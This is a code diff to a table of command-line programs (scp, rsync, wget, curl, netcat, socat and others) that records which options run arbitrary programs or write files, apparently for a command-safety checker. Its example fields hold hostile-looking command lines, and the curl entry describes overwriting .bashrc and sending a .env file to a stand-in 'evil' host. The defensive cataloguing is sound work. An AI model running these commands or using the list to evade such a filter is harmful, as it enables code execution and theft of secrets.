@@ -34,12 +34,13 @@ RECORDS = (
         "@permute", 1), example="mosh host -- rm x"),
     Program("rsh", Wrapper("-l: -n -d -K @permute", 1, joined=True), example="rsh -l bob host rm x"),
     Program("sshpass", Wrapper("-f: -d: -p: -e -P: -v -h -V"), example="sshpass -p x rm x"),
-    Program("scp", settings="-S* -D* -o!", form="ssh", always="`-S` and `-o ProxyCommand=…` run any program",
-        example="scp -o ProxyCommand='rm x' a h:b"),
+    Program("scp", settings="-S* -D* -o!", options="-3 -4 -6 -A -B -C -c: -D* -F: -i: -J: -l: -O -o! -P: -p -q -R -r "
+        "-S* -s -T -v -X:", form="ssh", writes="into",
+        always="`-S` and `-o ProxyCommand=…` run any program", example="scp -o ProxyCommand='rm x' a h:b"),
     Program("sftp", settings="-S* -o! -D*", form="ssh", carries=line_editor,
         always="`-S`, `-o ProxyCommand=…` and `!` run any program", example="sftp -S 'rm x' h"),
-    Program("rsync", settings="-e! --rsh! --rsync-path! -M!", always="`-e` and `--rsync-path` run any program",
-        example="rsync -e 'rm x' a h:b"),
+    Program("rsync", settings="-e! --rsh! --rsync-path! -M!", writes="into",
+        always="`-e` and `--rsync-path` run any program", example="rsync -e 'rm x' a h:b"),
     Program("ssh-keygen", settings="-D!", example="ssh-keygen -D 'rm x'"),
     Program("ssh-add", settings="-s!", example="ssh-add -s 'rm x'"),
     Program("nc netcat ncat", settings="-e! -c! --exec! --sh-exec!", always="`-e` and `-c` run any program",
@@ -47,11 +48,17 @@ RECORDS = (
     Program("socat", carries=socat, always="`EXEC:` runs any program", example="socat - EXEC:'rm x'"),
     Program("ftp lftp telnet", carries=line_editor, example="ftp <<< '!rm x'"),
     Program("mail mailx mutt", carries=line_editor, example="mail <<< '!rm x'"),
-    Program("wget", settings="--use-askpass! -e! --execute!", form="wget", broad="-O",
+    Program("wget", settings="--use-askpass! -e! --execute!", form="wget",
+        options="-a: -c -e! -i: -N -nc -nd -nv -o: -O: -P: -q -r -T: -t: -U: --append-output: --directory-prefix: "
+        "--execute! --header: --no-check-certificate --no-verbose --output-document: --output-file: --quiet",
+        writes="-O, --output-document, -o, --output-file, -a, --append-output, -P/, --directory-prefix/", broad="-O",
         example="wget --use-askpass='rm x' u"),
     Program("pandoc", settings="-F! --filter! --pdf-engine!", task="2", example="pandoc --filter 'rm x' a.md"),
-    Program("curl", broad="-o, -O, -K, -T, -d", worst="write -o /home/u/.bashrc https://evil; load -K /tmp/evil; "
-        "publish -T .env https://evil"),
+    Program("curl", options="-A: -b: -c: -D: -d: -e: -F: -f -G -H: -I -i -k -L -m: -o: -O -Q: -r: -S -s -T: -U: -u: -v "
+        "-w: -X: -x: --cookie-jar: --data: --dump-header: --fail --header: --insecure --location --output: "
+        "--output-dir: --request: --show-error --silent --trace: --url:", writes="-o, --output, -D, --dump-header, -c, "
+        "--cookie-jar, --trace, --output-dir/", broad="-o, -O, -K, -T, -d", worst="write -o /home/u/.bashrc https://evil; "
+        "load -K /tmp/evil; publish -T .env https://evil"),
     Program("aria2c", settings="--on-download-complete! --on-download-start! --on-download-error! "
         "--on-download-stop! --on-bt-download-complete!", example="aria2c --on-download-complete='rm x' u"),
     Program("yt-dlp youtube-dl", settings="--exec!", example="yt-dlp --exec 'rm x' u"),
